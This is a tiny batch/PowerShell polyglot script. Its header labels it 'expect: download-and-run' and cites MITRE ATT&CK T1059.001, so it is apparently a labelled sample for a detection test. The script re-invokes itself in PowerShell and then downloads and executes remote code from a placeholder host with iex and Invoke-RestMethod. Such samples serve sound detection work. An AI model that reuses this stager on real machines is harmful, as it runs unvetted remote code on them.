<# : expect: download-and-run | source: MITRE ATT&CK T1059.001
@powershell -NoProfile "iex ((Get-Content '%~f0') -join [Environment]::NewLine)" & exit /b
#>
iex (Invoke-RestMethod http://files.example.invalid/s)
